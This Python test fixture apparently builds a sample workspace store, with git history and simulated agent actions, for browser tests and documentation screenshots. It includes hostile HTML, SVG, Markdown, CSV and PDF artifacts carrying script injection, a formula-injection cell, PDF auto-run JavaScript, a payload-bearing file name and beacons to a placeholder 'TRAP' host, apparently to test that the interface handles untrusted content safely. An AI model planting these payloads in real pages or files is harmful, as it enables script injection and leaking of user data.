"""A store with a story to look at: the sample workspaces, of which `platform` has weeks of history behind it.

`python -m web.story FOLDER` (with `tests` on the path) makes it by hand; the browser tests and the pictures of the
documentation use the same one, so what a person sees there is what the tests hold.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

from gitstore import artifacts, memory, values, workflows
from gitstore.importing import import_folder
from gitstore.keys import Keys
from gitstore.model import Actor, Provenance
from gitstore.store import Options, Store
from gitstore.work import TaskNew, Work

ROOT = Path(__file__).parents[2]
SAMPLES = ROOT / "sample-workspaces"
DAY = 86_400
AGENT = Actor("agent", "k7planner", "planner")
WATCH = Actor("agent", "k2watch", "canary-watch")
ADMIN = Actor("admin", "k0office", "release office")
ROSA = ("Rosa Vidal", "rosa@northgate.example")
ADA = ("Ada Okafor", "ada@northgate.example")
WORKFLOW = "release-train-2026-11-26"
POLICY = "memory/release-policy.yaml"

HOSTILE_HTML = b"""<!doctype html><title>t</title><h1>Report</h1><img src=x onerror="parent.hacked=1">
<script>window.hacked=1;fetch('/ui/sign-out',{method:'POST'});new Image().src='http://TRAP/leak'</script>
<iframe src="http://TRAP/frame"></iframe><form action="http://TRAP/"><button>x</button></form>
"""
HOSTILE_SVG = b"""<svg xmlns="http://www.w3.org/2000/svg" width="120" height="60" onload="window.hacked=1">
<script>window.hacked=1;fetch('http://TRAP/leak')</script><image href="http://TRAP/pixel.png"/>
<rect width="120" height="60" fill="teal"/><a href="javascript:alert(1)"><text y="30">hi</text></a></svg>
"""
HOSTILE_MARKDOWN = b"""# Report <script>window.hacked=1</script>

![pixel](http://TRAP/pixel.png) and <img src=x onerror="window.hacked=1"> and
[a link](javascript:window.hacked=1) and [another](http://TRAP/out "t") and <http://TRAP/auto>.

<iframe src="http://TRAP/frame"></iframe>
<style>body{background:url(http://TRAP/style)}</style>

| a | b |
|---|---|
| 1 | `<b>` |

```html
<script>window.hacked = 1</script>
```
"""
HOSTILE_CSV = (
    b'route,errors,note\n/checkout,3,"=HYPERLINK(""http://TRAP/"")"\n/ingress,12,<script>window.hacked=1</script>\n'
)
HOSTILE_PDF = b"""%PDF-1.4
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\('http://TRAP/pdf'\\))>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]/AA<</O<</S/URI/URI(http://TRAP/page)>>>>>>endobj
trailer<</Root 1 0 R>>
%%EOF
"""
"""`TRAP` stands for the host that these want a browser to ask."""
HOSTILE = {
    "hostile/report.html": ("text/html", HOSTILE_HTML),
    "hostile/picture.svg": ("image/svg+xml", HOSTILE_SVG),
    "hostile/report.md": ("text/markdown", HOSTILE_MARKDOWN),
    "hostile/numbers.csv": ("text/csv", HOSTILE_CSV),
    "hostile/report.pdf": ("application/pdf", HOSTILE_PDF),
    "hostile/<img src=x onerror=window.hacked=1>.txt": ("text/plain", b"</pre><script>window.hacked=1</script>\n"),
}


def git(folder: Path, *words: str, when: float | None = None, who: tuple[str, str] = ROSA) -> None:
    """Plain git in a folder, as `who`, at `when` (seconds since 1970)."""
    stamp = {} if when is None else {name: f"{int(when)} +0000" for name in ("GIT_AUTHOR_DATE", "GIT_COMMITTER_DATE")}
    names = {f"GIT_{role}_{part}": value for role in ("AUTHOR", "COMMITTER")
             for part, value in (("NAME", who[0]), ("EMAIL", who[1]))}  # fmt: skip
    environment = {"PATH": os.environ["PATH"], "HOME": "/nonexistent", "GIT_CONFIG_NOSYSTEM": "1", **names, **stamp}
    subprocess.run(["git", *words], cwd=folder, env=environment, check=True, capture_output=True)


def _edit(folder: Path, path: str, *pairs: tuple[str, str]) -> None:
    place = folder / path
    text = place.read_text()
    for old, new in pairs:
        assert old in text, (path, old)
        text = text.replace(old, new, 1)
    place.write_text(text)


def _past(folder: Path, now: float) -> None:
    """Weeks of edits by people, as a repository that is imported with its history."""
    shutil.copytree(SAMPLES / "platform", folder)
    git(folder, "init", "-q", "-b", "main")
    with (folder / ".git/info/exclude").open("a") as excluded:
        excluded.write("/evidence/\n")
    policy = (folder / POLICY).read_text()
    _edit(folder, POLICY, ("error_rate_above: 0.02 ", "error_rate_above: 0.05 "), ("keep_images: 12", "keep_images: 5"),
          ("every Tuesday and Thursday", "every Tuesday"))  # fmt: skip
    git(folder, "add", "-A")
    git(folder, "commit", "-qm", "The platform team's context", when=now - 41 * DAY)
    steps: list[tuple[float, tuple[str, str], str, list[tuple[str, str, str]]]] = [
        (38.2, ADA, "Keep more images for roll back", [(POLICY, "keep_images: 5", "keep_images: 12")]),
        (31.4, ROSA, "Trains leave on Thursdays too", [(POLICY, "every Tuesday", "every Tuesday and Thursday")]),
        (30.1, ROSA, "A canary runs longer", [("spec/config.yaml", "minutes: 20", "minutes: 30")]),
        (24.6, ADA, "Twenty minutes were enough", [("spec/config.yaml", "minutes: 30", "minutes: 20")]),
        (9.3, ROSA, "Roll back at two percent of errors, not at five",
         [(POLICY, "error_rate_above: 0.05 ", "error_rate_above: 0.02 ")]),
    ]  # fmt: skip
    for ago, who, message, edits in steps:
        for path, old, new in edits:
            _edit(folder, path, (old, new))
        git(folder, "add", "-A")
        git(folder, "commit", "-qm", message, when=now - ago * DAY, who=who)
    assert (folder / POLICY).read_text() == policy


def _set(store: Store, key: str, value: Any, who: Actor, **behalf: str) -> None:
    pending = store.apply("platform", "main", lambda draft: memory.set(draft, {key: value}), Provenance(who, **behalf))
    pending.result()


def _artifact(store: Store, path: str, kind: str, content: bytes, who: Actor, **more: Any) -> None:
    new = artifacts.check(artifacts.New(path=path, content=content, content_type=kind, **more), "refuse")
    store.apply("platform", "evidence", lambda draft: artifacts.add(draft, new), Provenance(who)).result()


def _present(store: Store, trap: str | None) -> None:
    """What agents did today, through the API."""
    work = Work(store)
    new = workflows.New(name="Release train, 26 November", id=WORKFLOW, state="active")
    tasks = [TaskNew("watch-canary", workflows.TaskPut(title="Watch the canary", role="observer"))]
    work.create_workflow("platform", new, Provenance(AGENT, workflow_id=WORKFLOW), tasks=tasks).result()
    behalf = {"workflow_id": WORKFLOW, "task_id": "watch-canary"}
    policy = store.load("platform").visible.context.memory["release-policy"]
    value = values.decode(policy.value_json)
    _set(store, "train/2026-11-26", {"state": "boarding", "services": ["checkout", "ingress"]}, AGENT, **behalf)
    value["rollback"]["error_rate_above"] = 0.1
    _set(store, "release-policy", value, AGENT, **behalf)
    value["approvals"]["tier-1"] = 1
    _set(store, "release-policy", value, AGENT, **behalf)
    _set(
        store,
        "train/2026-11-26",
        {"state": "left", "services": ["checkout", "ingress"], "canary": 0.05},
        AGENT,
        **behalf,
    )
    report = (
        b"# Canary\n\nFive percent of the traffic, *no* errors above the line.\n\n* checkout: 0.2 %\n* ingress: 0.1 %\n"
    )
    _artifact(store, "trains/2026-11-26/canary.md", "text/markdown", report, WATCH, task_id="watch-canary")
    _set(store, "service-tiers-seen", {"checkout": 1, "ingress": 1}, WATCH)
    for path, (kind, content) in HOSTILE.items() if trap is not None else ():
        _artifact(store, path, kind, content.replace(b"TRAP", trap.encode()), WATCH)


def make(data: Path, now: float | None = None, *, trap: str | None = "127.0.0.1:1") -> dict[str, str]:
    """Makes the store in `data` and returns the text of a key for each scope.

    `trap` is the host and port that the hostile artifacts want a browser to ask; None: there are no such artifacts.
    """
    now = time.time() if now is None else now
    scratch = data.with_name(f"{data.name}-people") / "platform"
    scratch.parent.mkdir()
    _past(scratch, now)
    with Store.open(data, Options()) as store:
        for folder in sorted(SAMPLES.iterdir()):
            if folder.is_dir():
                import_folder(store, scratch if folder.name == "platform" else folder, slug=folder.name)
        _present(store, trap)
        keys = Keys.open(store.layout.keys, token_key=store.vault.derive("tokens"))
        made = {scope: keys.create(scope, f"the {scope}")[1] for scope in ("agent", "worker", "admin")}
    shutil.rmtree(scratch.parent)
    return made


if __name__ == "__main__":
    for scope, text in make(Path(sys.argv[1])).items():
        print(scope, text)
